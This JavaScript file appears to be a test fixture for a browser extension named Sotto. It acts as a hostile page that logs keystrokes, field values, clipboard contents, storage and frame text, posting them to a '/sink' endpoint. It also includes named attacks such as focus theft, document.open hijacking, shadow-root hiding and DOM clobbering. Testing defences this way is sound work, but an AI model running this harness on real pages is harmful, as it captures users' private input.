/**
 * A page that wants to know. It runs before everything else of the page, listens to everything, patches what it can reach and polls
 * the rest; all it learns goes to `/sink` of its own server. Not strict about style: it is the enemy.
 */
(() => {
	const where = document.currentScript?.dataset.where ?? "page";
	const nativeFetch = window.fetch.bind(window);
	const nativeString = JSON.stringify;
	let queue = [];
	/** Our own work calls what we patched. */
	let inside = false;
	const alone = (work) => {
		if (inside) return;
		inside = true;
		try {
			work();
		} finally {
			inside = false;
		}
	};
	const tell = (kind, ...data) => alone(() => note(kind, data));
	const note = (kind, data) => {
		const plain = data.map((one) => {
			try {
				return typeof one === "string" ? one : nativeString(one);
			} catch {
				return String(one);
			}
		});
		queue.push(`${where} ${kind} ${plain.join(" ")}`);
	};
	const deliver = () => {
		if (queue.length === 0) return;
		const body = queue.join("\n");
		queue = [];
		nativeFetch("/sink", { method: "POST", body }).catch(() => {});
	};
	setInterval(() => alone(deliver), 80);

	const describe = (node) => {
		if (node === null || node === undefined) return "";
		if (node === window) return "window";
		if (node === document) return "document";
		return `${node.nodeName} ${node.value ?? ""} ${node.textContent ?? ""}`;
	};
	const listen = () => {
		const types = new Set();
		for (const object of [window, document, document.documentElement, HTMLElement.prototype, Document.prototype]) {
			for (const name in object) if (name.startsWith("on")) types.add(name.slice(2));
		}
		for (const extra of [
			"textInput",
			"DOMActivate",
			"compositionstart",
			"compositionupdate",
			"compositionend",
			"focusin",
			"focusout",
			"selectionchange",
			"beforeinput",
			"message",
			"messageerror",
			"visibilitychange",
		]) {
			types.add(extra);
		}
		const quiet = new Set(["pointerrawupdate", "pointermove", "mousemove", "animationframe"]);
		for (const type of types) {
			if (quiet.has(type)) continue;
			for (const target of [window, document]) {
				target.addEventListener(
					type,
					(event) => {
						tell("event", type, event.key ?? "", event.code ?? "", event.data ?? "", describe(event.target));
						if (event.clipboardData) tell("clipboard", event.clipboardData.getData("text/plain"));
						if (event.type === "message") tell("message", event.origin, event.data, event.ports?.length ?? 0);
						if (event.composedPath) tell("path", event.composedPath().map(describe).join("|"));
						const text = event.target?.shadowRoot?.textContent;
						if (text) tell("shadow", text);
					},
					true,
				);
			}
		}
	};
	listen();

	const patch = (object, name) => {
		const original = object?.[name];
		if (typeof original !== "function") return;
		object[name] = function patched(...args) {
			if (inside) return Reflect.apply(original, this, args);
			tell(
				`call ${name}`,
				...args.map((one) => (typeof one === "string" ? one : one instanceof Node ? describe(one) : typeof one)),
			);
			const result = Reflect.apply(original, this, args);
			if (typeof result === "string") tell(`result ${name}`, result);
			return result;
		};
	};
	patch(Element.prototype, "attachShadow");
	for (const name of ["appendChild", "insertBefore", "replaceChild", "removeChild", "cloneNode"])
		patch(Node.prototype, name);
	for (const name of [
		"append",
		"prepend",
		"before",
		"after",
		"replaceWith",
		"setAttribute",
		"insertAdjacentHTML",
		"moveBefore",
	]) {
		patch(Element.prototype, name);
	}
	for (const name of ["toString", "cloneContents", "setStart", "setEnd", "selectNodeContents"])
		patch(Range.prototype, name);
	for (const name of ["toString", "getRangeAt", "addRange", "selectAllChildren"]) patch(Selection.prototype, name);
	for (const name of ["postMessage"]) {
		patch(window, name);
		patch(MessagePort.prototype, name);
		patch(BroadcastChannel.prototype, name);
		patch(Worker.prototype, name);
	}
	for (const name of ["getItem", "setItem"]) patch(Storage.prototype, name);
	for (const name of ["addEventListener", "dispatchEvent"]) patch(EventTarget.prototype, name);
	for (const name of ["execCommand", "createElement", "createTreeWalker"]) patch(Document.prototype, name);
	for (const name of ["encode", "encodeInto"]) patch(TextEncoder.prototype, name);
	patch(TextDecoder.prototype, "decode");
	patch(JSON, "parse");
	patch(JSON, "stringify");
	patch(window, "fetch");
	patch(XMLHttpRequest.prototype, "send");
	patch(navigator, "sendBeacon");
	patch(Array.prototype, "join");
	patch(String.prototype, "split");
	for (const [prototype, name] of [
		[HTMLTextAreaElement.prototype, "value"],
		[HTMLInputElement.prototype, "value"],
		[Node.prototype, "textContent"],
		[HTMLIFrameElement.prototype, "src"],
		[HTMLIFrameElement.prototype, "contentWindow"],
	]) {
		const found = Object.getOwnPropertyDescriptor(prototype, name);
		if (!found?.get) continue;
		Object.defineProperty(prototype, name, {
			...found,
			get() {
				return found.get.call(this);
			},
			set(value) {
				tell(`set ${name}`, String(value));
				found.set?.call(this, value);
			},
		});
	}

	const observe = () =>
		new MutationObserver((records) => {
			for (const record of records) {
				for (const node of record.addedNodes) tell("added", node.outerHTML ?? node.textContent ?? "");
				if (record.type === "attributes")
					tell("attribute", record.attributeName, record.target.getAttribute(record.attributeName));
				if (record.type === "characterData") tell("text", record.target.data);
			}
		}).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
	observe();

	let known = "";
	const poll = () => {
		const fields = [...document.querySelectorAll("input, textarea, [contenteditable]")].map(
			(one) => one.value ?? one.textContent,
		);
		const found = [
			fields.join("|"),
			String(getSelection()),
			document.activeElement?.nodeName ?? "",
			document.activeElement?.value ?? "",
			document.title,
			location.href,
			document.body?.innerText ?? "",
			nativeString({ ...localStorage }),
			nativeString({ ...sessionStorage }),
			performance
				.getEntries()
				.map((entry) => entry.name)
				.join(" "),
			String(window.length),
			[...document.querySelectorAll("*")].map((one) => one.shadowRoot?.textContent ?? "").join(""),
		].join("\n");
		if (found !== known) tell("poll", found);
		known = found;
		for (let index = 0; index < window.length; index++) {
			try {
				tell("frame", window.frames[index].document.documentElement.innerText);
			} catch {
				// another origin
			}
		}
	};
	setInterval(poll, 50);
	indexedDB.databases?.().then((all) =>
		tell(
			"databases",
			all.map(({ name }) => name),
		),
	);

	const grab = (field) => setInterval(() => field()?.focus(), 60);
	const filled = (frame) => {
		const inner = frame.contentDocument;
		if (!inner?.body) return null;
		if (!inner.querySelector("input")) {
			inner.body.append(inner.createElement("input"));
			for (const type of ["keydown", "keypress", "keyup", "beforeinput", "input"]) {
				inner.defaultView.addEventListener(
					type,
					(event) => tell("child", type, event.key ?? "", event.data ?? "", event.target.value ?? ""),
					true,
				);
			}
		}
		frame.contentWindow.focus();
		return inner.querySelector("input");
	};
	const frame = (source, parent = document.body) => {
		const made = document.createElement("iframe");
		Object.assign(made, source);
		parent.append(made);
		return made;
	};
	const keyEvents = ["keydown", "keypress", "keyup", "beforeinput", "input"];
	const hearIn = (view) => {
		for (const type of keyEvents) {
			view.addEventListener(type, (event) => tell("child", type, event.key ?? "", event.data ?? ""), true);
		}
	};
	const inFrame = (parent, document) => parent.appendChild(document.createElement("iframe"));
	/** What the page does in a frame before it opens the document, so as to be the first to listen afterwards. */
	const preparations = {
		plain: () => {},
		"frame-before": (inner, view) => {
			const made = inner.createElement("iframe");
			inner.documentElement.prepend(made);
			made.contentWindow.addEventListener("pagehide", () => hearIn(view));
		},
		"frame-in-host": (inner, view) => {
			for (const host of inner.querySelectorAll("div"))
				inFrame(host, inner).contentWindow.addEventListener("pagehide", () => hearIn(view));
		},
		"frame-while-unloading": (inner, view) => {
			inFrame(inner.body, inner).contentWindow.addEventListener("pagehide", () => {
				const made = inner.createElement("iframe");
				inner.documentElement.prepend(made);
				made.contentWindow.addEventListener("pagehide", () => hearIn(view));
			});
		},
		"root-replaced-while-unloading": (inner, view) => {
			inFrame(inner.body, inner).contentWindow.addEventListener("pagehide", () => {
				inner.replaceChildren(inner.createElement("html"));
				inFrame(inner.documentElement, inner).contentWindow.addEventListener("pagehide", () => hearIn(view));
			});
		},
		nested: (inner, view) => {
			inFrame(inner.body, inner).contentWindow.addEventListener("pagehide", () => {
				inner.open();
				hearIn(view);
			});
		},
		twice: (inner) => inner.open(),
		/** Looks for the sentinel by every name it can think of, takes it and does with it what it likes. */
		"sentinel-by-name": (inner, view) => {
			const names = new Set(["sotto-sentinel", "sotto-sentinel-", ""]);
			for (const one of [...Object.getOwnPropertyNames(view), ...inner.querySelectorAll("[name]")]) {
				names.add(String(one.name ?? one));
			}
			for (let index = 0; index < view.length; index++) names.add(view.frames[index].name);
			for (const name of names) {
				// Nothing but what may be ours, or is a window by that name.
				if (!name.startsWith("sotto") && (name === "" || view[name]?.window !== view[name])) continue;
				const found = view.open("", name);
				if (found?.parent === found && found !== view.top) found.close();
				const element = found && found !== view && found.parent === view ? found.frameElement : null;
				if (!element) continue;
				tell("sentinel found", name);
				found.addEventListener("pagehide", () => hearIn(view));
				inFrame(element, inner);
				found.location = "/blank";
				inner.body.append(element);
				hearIn(element.contentWindow);
			}
			// Their element, wherever else it may be met.
			for (const element of inner.querySelectorAll("iframe")) tell("sentinel found", element.name);
		},
		"taken-out": (inner) => inner.documentElement.replaceChildren(),
		"root-taken-out": (inner) => inner.replaceChildren(),
	};
	/** A frame whose document the page opens anew, with ears of its own in it before anybody else's. */
	const openedIn = (made, prepare) => {
		const { contentDocument: inner, contentWindow: view } = made;
		prepare(inner, view);
		inner.open();
		hearIn(view);
		inner.write("<!doctype html><body><input></body>");
		inner.close();
		return made;
	};
	const opened = (prepare = preparations.plain, parent = document.body) => openedIn(frame({}, parent), prepare);
	const later = (source, run) => {
		const made = frame(source);
		made.addEventListener("load", () => run(made), { once: true });
		return made;
	};
	const ways = {
		...Object.fromEntries(Object.entries(preparations).map(([way, prepare]) => [way, () => opened(prepare)])),
		named: () => openedIn(frame({ name: "sotto-sentinel-of-the-page" }), preparations.plain),
		addressed: () => later({ src: "/blank" }, (made) => openedIn(made, preparations.plain)),
		"script-address": () => later({ src: "javascript:'<body></body>'" }, (made) => openedIn(made, preparations.plain)),
		"closed-root": () => {
			const host = document.createElement("div");
			document.body.append(host);
			return opened(preparations.plain, host.attachShadow({ mode: "closed" }));
		},
	};
	const seize = (made) => {
		made?.contentWindow?.focus();
		made?.contentDocument?.querySelector("input")?.focus();
	};
	let early;
	/** Opens a frame in one of these ways, before anybody composes. */
	window.openEarly = (way) => {
		try {
			early = ways[way]();
		} catch (error) {
			// Firefox does not take all of it.
			tell("refused", String(error));
		}
	};
	window.seizeEarly = () => void setInterval(() => seize(early), 4);
	/** Closed roots of elements that were there before: no record tells of them, so nothing hides the frames in them at once. */
	const hosts = [];
	const unseen = () => hosts.shift()?.attachShadow({ mode: "closed" });
	/** An editor that is the whole document of its frame, begun as its makers do it; ears in it as early as can be. */
	const editors = {
		// modules/tinymce/src/core/main/ts/init/InitContentBody.ts of TinyMCE 5
		tinymce5: (made) => {
			const { contentDocument: inner, contentWindow: view } = made;
			inner.open();
			hearIn(view);
			inner.write(
				'<!DOCTYPE html><html><head><base href="/"></head><body id="tinymce" class="mce-content-body"></body></html>',
			);
			inner.close();
			inner.body.contentEditable = "true";
		},
		// plugins/wysiwygarea/plugin.js of CKEditor 4: its own script in the document calls back
		ckeditor4: (made) => {
			const { contentDocument: inner, contentWindow: view } = made;
			inner.open();
			hearIn(view);
			inner.write(
				'<!DOCTYPE html><html><head></head><body class="cke_editable" contenteditable="true"><script>parent.editorStands = 1</' +
					"script></body></html>",
			);
			inner.close();
		},
	};
	window.openEditor = (maker) => {
		document.querySelector("#form").hidden = true;
		early = frame({ title: "Message", width: 600, height: 120 });
		early.className = "editor";
		editors[maker](early);
		early.contentDocument.body.setAttribute("aria-label", "Message");
		early.contentDocument.body.append(early.contentDocument.createElement("p"));
	};
	window.editorFocus = () => early.contentDocument.body.focus();
	window.seizeEditor = () => {
		const made = early.contentDocument.createElement("input");
		early.contentDocument.body.after(made);
		setInterval(() => {
			early.contentWindow.focus();
			made.focus();
		}, 4);
	};
	/** The attacks, one at a time: the test chooses. `second` is another origin of the enemy. */
	window.attack = (name, second) => {
		switch (name) {
			case "own-box":
				return void grab(() => document.querySelector("#box"));
			case "window-focus":
				return void setInterval(() => {
					document.activeElement?.blur();
					window.focus();
				}, 60);
			case "about-blank": {
				const child = frame({});
				return void grab(() => filled(child));
			}
			case "opened-frame": {
				for (let count = 0; count < 40; count++) hosts.push(document.createElement("div"));
				document.body.append(...hosts);
				let made = null;
				return void setInterval(() => {
					const root = made?.isConnected ? null : unseen();
					if (root) made = opened(preparations.plain, root);
					if (made) seize(made);
				}, 4);
			}
			case "srcdoc": {
				const child = frame({ srcdoc: "<!doctype html><body></body>" });
				return void grab(() => filled(child));
			}
			case "second-origin":
				return void frame({ src: `${second}/thief` });
			case "closed-root": {
				const host = document.createElement("div");
				document.body.append(host);
				return void frame({ src: `${second}/thief` }, host.attachShadow({ mode: "closed" }));
			}
			case "object": {
				const made = document.createElement("object");
				made.data = `${second}/thief`;
				return void document.body.append(made);
			}
			case "document-open":
			case "document-open-replaced": {
				setTimeout(() => {
					document.open();
					// From here on whoever opens it through our eyes opens nothing.
					if (name !== "document-open") document.open = () => document;
					document.write(
						"<!doctype html><title>Hostile chat</title><body><h1>Room</h1><textarea id=box></textarea></body>",
					);
					document.close();
					listen();
					observe();
					grab(() => document.querySelector("#box"));
				}, 300);
				return;
			}
			case "modal": {
				const dialog = document.createElement("dialog");
				dialog.append(document.createElement("input"));
				document.body.append(dialog);
				return void setInterval(() => {
					if (!dialog.open) dialog.showModal();
					dialog.firstChild.focus();
				}, 60);
			}
			case "transition": {
				// Outranks an important `display`, for days.
				const style = document.createElement("style");
				style.textContent = "iframe { transition: display 9e5s allow-discrete !important; width: 200px; height: 50px }";
				document.head.append(style);
				return void frame({ src: `${second}/thief` });
			}
			case "slotted": {
				// A rule of the tree it is slotted into outranks an important inline style.
				const host = document.createElement("div");
				host.attachShadow({ mode: "closed" }).innerHTML =
					"<style>::slotted(iframe) { display: block !important }</style><slot></slot>";
				document.body.append(host);
				return void frame({ src: `${second}/thief` }, host);
			}
			case "clobbered": {
				const form = document.createElement("form");
				const names = ["matches", "querySelectorAll", "shadowRoot", "openOrClosedShadowRoot", "closest", "getRootNode"];
				for (const one of [...names, "parentElement", "parentNode", "isConnected"]) {
					form.append(Object.assign(document.createElement("input"), { name: one }));
				}
				for (const one of ["querySelectorAll", "createTreeWalker", "activeElement", "hasFocus"]) {
					document.body.append(Object.assign(document.createElement("img"), { name: one }));
				}
				frame({ src: `${second}/thief` }, form);
				return void document.body.append(form);
			}
			case "press-and-steal": {
				// The press is swallowed, so that the focus stays; the theft comes under its cover.
				addEventListener("mousedown", (event) => event.preventDefault());
				addEventListener("contextmenu", (event) => event.preventDefault());
				return void addEventListener("pointerdown", () => {
					for (const wait of [5, 20, 120]) setTimeout(() => document.querySelector("#box").focus(), wait);
				});
			}
			case "clear-timeout": {
				window.clearTimeout = () => {
					throw new Error("no");
				};
				return;
			}
			case "remove-hosts":
				return void setInterval(() => {
					for (const one of document.querySelectorAll("div[style]")) if (one.childNodes.length === 0) one.remove();
					document.querySelector("#box")?.focus();
				}, 60);
		}
	};
	/**
	 * Embeds a page of the extension and hands it a ticket, as our own content script would. Tells all it answers. By its name the test
	 * knows the frame from those that Sotto made.
	 */
	window.embed = (url, ticket) => {
		const made = frame({ src: url, name: "embedded" });
		made.addEventListener("load", () => {
			const { port1, port2 } = new MessageChannel();
			port1.onmessage = (event) => tell("port", event.data);
			try {
				made.contentWindow.postMessage({ sotto: "port", ticket }, "*", [port2]);
			} catch (error) {
				tell("refused", String(error));
			}
		});
		nativeFetch(url).then(
			async (answer) => tell("fetched", answer.status, await answer.text()),
			(error) => tell("unreachable", String(error)),
		);
	};
})();
